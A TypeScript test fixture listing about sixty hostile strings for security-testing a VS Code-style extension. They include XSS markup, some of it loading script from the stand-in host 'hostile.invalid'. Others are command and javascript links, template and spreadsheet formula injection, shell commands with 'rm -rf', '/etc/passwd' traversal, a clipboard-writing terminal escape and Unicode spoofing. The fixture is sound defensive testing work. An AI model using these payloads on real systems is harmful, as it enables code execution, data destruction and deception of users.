/**
 * Sixty texts that would do harm where they are taken for more than text: each sets `pwned`, opens a dialog, asks `hostile.invalid`
 * for something, runs a command, moves a cursor, or passes for another text.
 */

export interface Payload {
  /** Short, of letters and digits alone; part of the text too, so that the text is found wherever it is shown. */
  readonly id: string;
  readonly text: string;
}

const HOST = "hostile.invalid";
const RUN = "globalThis.pwned=1;alert(1)";

const MARKUP: readonly (readonly [id: string, text: string])[] = [
  ["hs01", `<script>${RUN}</script>hs01`],
  ["hs02", `"><script src=//${HOST}/hs02.js></script>`],
  ["hs03", `</script></title></textarea></style></bdi><script>${RUN}//hs03</script>`],
  ["hs04", `<img src=x onerror="${RUN}">hs04`],
  ["hs05", `<img src=http://${HOST}/hs05.png>`],
  ["hs06", `" onmouseover="${RUN}" autofocus onfocus="${RUN}" hs06="`],
  ["hs07", `' onmouseover='${RUN}' style='position:fixed;inset:0' hs07='`],
  ["hs08", `<svg onload=${RUN}><text>hs08</text></svg>`],
  ["hs09", `<svg><script href="data:text/javascript,${RUN}"/></svg>hs09`],
  ["hs10", `<svg><use href="http://${HOST}/hs10.svg#a"/></svg>`],
  ["hs11", `<iframe src="javascript:${RUN}"></iframe>hs11`],
  ["hs12", `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>hs12`],
  ["hs13", `<a href="javascript:${RUN}">hs13</a>`],
  ["hs14", `<a href="command:workbench.action.closeAllEditors">hs14</a>`],
  ["hs15", `<meta http-equiv=refresh content="0;url=http://${HOST}/hs15">`],
  ["hs16", `<base href=http://${HOST}/hs16/><link rel=stylesheet href=http://${HOST}/hs16.css>`],
  ["hs17", `<style>*{display:none}</style><style>@import "http://${HOST}/hs17.css"</style>`],
  ["hs18", `<form action=http://${HOST}/hs18><button autofocus>hs18</button></form>`],
  ["hs19", `<!--hs19`],
  ["hs20", `&lt;img src=x onerror=${RUN}&gt;&#60;b&#62;hs20`],
  ["hs21", `<template><slot onslotchange=${RUN}></template><details open ontoggle=${RUN}>hs21`],
];

const LINKS: readonly (readonly [id: string, text: string])[] = [
  ["hs22", `[hs22](command:workbench.action.closeAllEditors)`],
  ["hs23", `[hs23](command:workbench.action.terminal.new "title")`],
  ["hs24", `![hs24](http://${HOST}/hs24.png)`],
  ["hs25", `[hs25](javascript:${RUN})`],
  ["hs26", `<http://${HOST}/hs26> http://${HOST}/hs26 www.${HOST}/hs26 hs26@${HOST}`],
  ["hs27", "```\n# hs27\n[a](command:flightDeck.openDemo)\n```"],
  ["hs28", "`hs28``` ` [b](command:flightDeck.openDemo) `"],
  ["hs29", `| hs29 | [c](command:flightDeck.openDemo) |\n|---|---|\n\n# hs29\n\n- x`],
  ["hs30", `[hs30]: http://${HOST}/hs30 "t"\n\n[hs30]`],
  ["hs31", `**hs31** _a_ ~~b~~ <b>c</b> \\* &copy;`],
  ["hs32", `javascript:${RUN}//hs32`],
  ["hs33", `command:workbench.action.closeAllEditors?hs33`],
  ["hs34", `vscode://ms.hostile/hs34 file:///etc/passwd`],
  ["hs35", `data:text/html,<script>${RUN}</script>hs35`],
];

const EXPRESSIONS: readonly (readonly [id: string, text: string])[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the texts
  ["hs36", "${globalThis.pwned=1}{{constructor.constructor('pwned=1')()}}hs36"],
  ["hs37", `<%= pwned=1 %>#{pwned=1}{%raw%}hs37`],
  ["hs38", `datum['hs38'] ? warn('x') : event.view.alert(1)`],
  ["hs39", `'];globalThis.pwned=1;//hs39`],
  ["hs40", `$(error) $(loading~spin) $(alert)hs40`],
  ["hs41", `\\$(bug) $(hs41) $(`],
  ["hs42", `=HYPERLINK("http://${HOST}/hs42","x")`],
  ["hs43", `@SUM(1+1)*cmd|' /C calc'!A0 hs43`],
  ["hs44", `-2+3+cmd|' /C calc'!A0 hs44`],
  ["hs45", "$(touch /tmp/hs45) `touch /tmp/hs45`; rm -rf hs45 && echo %PATH% | cat > /dev/null"],
  ["hs46", `../../../../etc/passwd%2f..%5c..\\hs46`],
  ["hs47", `C:\\hs47\\CON:stream?#%00%0a`],
];

const CONTROLS: readonly (readonly [id: string, text: string])[] = [
  ["hs48", "\u001b[31m\u001b[2J\u001b[1;1Hhs48\u001b[0m"],
  ["hs49", `\u001b]8;;http://${HOST}/hs49\u0007hs49\u001b]8;;\u0007`],
  ["hs50", "\u001b]52;c;cm0gLXJmIH4=\u0007\u001b]0;hs50\u0007\u0007"],
  ["hs51", "\u009b31mhs51\u009d52;c;eA==\u009c\u0090x\u009c"],
  ["hs52", "hs52\0end\u007f\b\b\b\b\r\u0085x"],
  ["hs53", "hs53\u202egpj.exe\u202c \u2066a\u2069 \u200f\u061c"],
  ["hs54", "h\u200bs54hs54\u200d\u2060\ufeff\u00ad\u034f"],
  ["hs55", "hs55\u3164\u115f\uffa0\u{e0041}\u{e0020}"],
  ["hs56", "hs56 one line\nhs56 another\r\nthird\u2028fourth\u2029fifth\ttab"],
  ["hs57", "hs57 \u0430\u0440\u0440\u04cf\u0435 reward_me\u0430n"],
];

/** Names that every object has. */
export const INHERITED = ["__proto__", "constructor", "toString"] as const;

const LONG = `hs58 ${"x".repeat(20_000)}`;

/** Sixty of them: with those that every object has. */
export const PAYLOADS: readonly Payload[] = [
  ...[...MARKUP, ...LINKS, ...EXPRESSIONS, ...CONTROLS].map(([id, text]) => ({ id, text })),
  ...INHERITED.map((text) => ({ id: text, text })),
];

/** Costs too much to be in each field sixty times. */
export const TOO_LONG = LONG;

/** Names of folders: a file system takes no slash and no NUL, and what looks like a slash is a payload of its own. */
export const FOLDERS: readonly Payload[] = PAYLOADS.map(({ id, text }) => ({
  id,
  text: text.replaceAll("/", "\u2215").replaceAll("\0", ""),
}));

/** What no terminal, no log and no line of ours may hold as it is. */
export const OBEYED =
  /\u034f|[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\u115f\u3164\uffa0\u{e0000}-\u{e0fff}]/u;
